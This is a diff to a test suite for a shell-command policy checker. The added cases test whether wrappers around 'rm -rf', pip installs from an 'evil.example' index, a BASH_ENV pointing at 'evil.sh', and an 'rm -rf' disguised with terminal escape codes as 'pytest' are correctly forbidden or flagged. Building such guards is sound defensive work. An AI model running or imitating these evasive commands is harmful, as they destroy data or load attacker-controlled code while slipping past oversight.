@@ -80,6 +80,17 @@ const wrapped: Row[] = [
   [["find", ".", "-exec", "rm", "-rf", "{}", ";"], "forbid", RM],
   [["find", ".", "-execdir", "rm", "-r", "{}", "+"], "forbid", RM],
   [["eval", "rm", "-rf", "x"], "forbid", RM],
+  // neighbours
+  [["watch", "-n", "1", "rm", "-rf", "x"], "forbid", RM],
+  [["watch", "-x", "rm", "-rf", "x"], "forbid", RM],
+  [["watch", "rm -rf x"], "forbid", RM],
+  [["flock", "/tmp/l", "rm", "-rf", "x"], "forbid", RM],
+  [["flock", "-w", "5", "/tmp/l", "-c", "rm -rf x"], "forbid", RM],
+  [["flock", "-c", "rm -rf x", "/tmp/l"], "forbid", RM],
+  [["strace", "-f", "-o", "/tmp/t", "rm", "-rf", "x"], "forbid", RM],
+  [["script", "-q", "-c", "rm -rf x", "/dev/null"], "forbid", RM],
+  [["chroot", "/", "rm", "-rf", "x"], "forbid", RM],
+  [["watch", "pytest"], "ask", UNKNOWN],
   // nested
   [["nice", "timeout", "5", "env", "-i", "nohup", "rm", "-rf", "x"], "forbid", RM],
   [["env", "sh", "-c", "rm -rf x", "x"], "forbid", RM],
@@ -182,6 +193,12 @@ const options: Row[] = [
   [["python3", "-m", "pytest", "-q"], "allow", "shell.whitelist"],
   [["python3", "-B", "main.py", "-m", "timeit", "-c", "x"], "ask", "shell.python-inline"],
   [["python3", "main.py", "--mode", "paper"], "allow", "shell.whitelist"],
+  [["pip", "install", "--ind", "evil.example/simple", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-qievil.example", "x"], "ask", "shell.pip-index"],
+  [["pip3", "install", "--trusted=evil.example", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "--no-index", "--find", "wheels", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-q", "-r", "requirements.txt"], "allow", "shell.whitelist"],
+  [["pip", "install", "--user", "requests==2.32.3"], "allow", "shell.whitelist"],
 ];
 
 describe("wrappers are judged by what they wrap; strictest wins", () => {
@@ -233,6 +250,20 @@ describe("wrappers are judged by what they wrap; strictest wins", () => {
     const part = v.parts.find((p) => p.ruleId === OPTION);
     expect(part?.decision).toBe("ask");
     expect(part?.reason).toContain("`--frobnicate`");
+  });
+
+  it("names a reserved variable a wrapper sets for the command (env BASH_ENV=… bash -c …)", () => {
+    const v = evaluateCommand(policy, { argv: ["env", "BASH_ENV=/workspace/evil.sh", "PIP_INDEX_URL=x", "A=1", "bash", "-c", "true"] });
+    expect(v.decision).toBe("ask");
+    const part = v.parts.find((p) => p.ruleId === "shell.env-reserved");
+    expect(part?.reason).toContain("sets BASH_ENV, PIP_INDEX_URL");
+    expect(evaluateCommand(policy, { argv: ["env", "A=1", "pytest"] }).parts.some((p) => p.ruleId === "shell.env-reserved")).toBe(false);
+  });
+
+  it("refuses the issue's disguised `sh -c` string: a control character in the script cannot be judged", () => {
+    const v = evaluateCommand(policy, { argv: ["sh", "-c", "rm -rf /workspace/x #\u001b[35Dpytest -q tests/\u001b[K"] });
+    expect(v.decision).toBe("forbid");
+    expect(evaluateCommand(policy, { command: "sh -c $'rm -rf /workspace/x #\\e[35Dpytest -q tests/\\e[K'" }).decision).toBe("forbid");
   });
 
   it("bounds the nesting of wrappers", () => {
